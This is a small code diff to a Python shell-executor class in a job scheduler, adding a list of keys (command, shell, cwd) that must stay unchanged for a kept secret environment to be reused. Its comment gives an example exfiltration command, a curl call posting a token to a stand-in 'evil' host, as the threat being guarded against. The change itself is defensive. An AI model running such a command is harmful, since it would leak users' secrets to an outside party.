@@ -318,6 +318,9 @@ class ShellExecutor(Executor):
     dkron_checked_keys = frozenset({"timeout", "mem_limit"})  # Dkron's Job.Validate
     secret_keys: ClassVar[frozenset[str]] = frozenset()
     secret_entries: ClassVar[Mapping[str, str]] = {"env": secrets.ENV}
+    # The code that receives the environment: a changed command could send it anywhere
+    # (`curl -d $TOKEN evil`), so a kept env value needs the same command, shell and cwd.
+    destination_keys: ClassVar[frozenset[str]] = frozenset({"command", "shell", "cwd"})
 
     def validate(self, raw: dict[str, Any]) -> ShellConfig:
         config = super().validate(raw)
